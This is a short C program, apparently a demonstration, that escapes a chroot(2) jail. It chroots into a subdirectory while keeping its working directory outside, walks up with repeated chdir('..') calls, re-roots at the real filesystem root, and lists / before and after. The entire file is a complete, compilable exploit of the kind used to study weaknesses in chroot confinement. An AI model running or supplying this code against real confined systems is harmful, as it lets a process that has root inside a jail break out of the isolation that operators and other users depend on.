/* escape -- list /, climb out of a chroot(2), list / again.
 *
 * The kernel stops ".." at the root of the process. So: take another root, one
 * *below* where we stand, and the way up is free.
 *
 *     cc -static escape.c -o escape        (one file, needs no library)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static void list(const char *when)
{
    struct dirent **name;
    int n = scandir("/", &name, NULL, alphasort);

    printf("%s:", when);
    for (int i = 0; i < n; i++)
        printf(" %s", name[i]->d_name);
    printf("\n");
}

int main(void)
{
    list("/ before");
    mkdir("/d", 0755); /* it may be there already */
    if (chdir("/") < 0 || chroot("d") < 0) {
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return 1;
    if (chroot(".") < 0)
        return 1;
    list("/ after");
    return 0;
}
